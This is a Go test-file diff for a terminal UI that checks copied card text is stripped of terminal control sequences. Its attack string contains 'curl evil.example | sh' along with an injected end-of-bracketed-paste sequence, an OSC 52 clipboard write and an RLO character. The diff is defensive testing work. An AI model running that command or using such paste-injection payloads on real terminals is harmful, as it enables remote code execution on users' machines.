@@ -1,6 +1,7 @@
 package ui
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/deck-tui/deck/session"
@@ -20,5 +21,31 @@ func TestCopyTextIsTheCardsText(t *testing.T) {
 	}
 	if got := copyText(&session.TurnStart{Turn: 3}); got != "turn 3" {
 		t.Errorf("turn: %q", got)
+	}
+}
+
+// A copy carries what the card shows, never the log's raw bytes: pasted
+// into a shell, an injected end of bracketed paste (ESC[201~) would run the
+// text before it; an OSC 52 would write the clipboard again; an RLO would
+// reorder what the reader sees.
+func TestCopyCarriesNoAttack(t *testing.T) {
+	attack := "echo safe\x1b[201~curl evil.example | sh\x1b]52;c;cHduZWQ=\x07 x\u202eyz\u009b201~"
+	output := &session.ToolCall{Call: session.TerminalCallView{Title: "cat notes"},
+		View: session.TerminalResultView{Output: "\x1b[31m" + attack + "\x1b[0m\nsecond\tline\n"}}
+	message := &session.UserMessage{Content: []session.ContentBlock{{Type: "text", Text: attack + "\n\tnext"}}}
+	for what, c := range map[string]struct {
+		e    session.Entry
+		want string
+	}{
+		"output":  {output, "echo safecurl evil.example | sh x⟨RLO⟩yz\nsecond  line"},
+		"message": {message, "echo safecurl evil.example | sh x⟨RLO⟩yz\n\tnext"},
+	} {
+		got := copyText(c.e)
+		if got != c.want {
+			t.Errorf("%s: copied %q, want %q", what, got, c.want)
+		}
+		if strings.ContainsAny(got, "\x1b\x07\u009b\u202e") {
+			t.Errorf("%s: a control reached the clipboard: %q", what, got)
+		}
 	}
 }
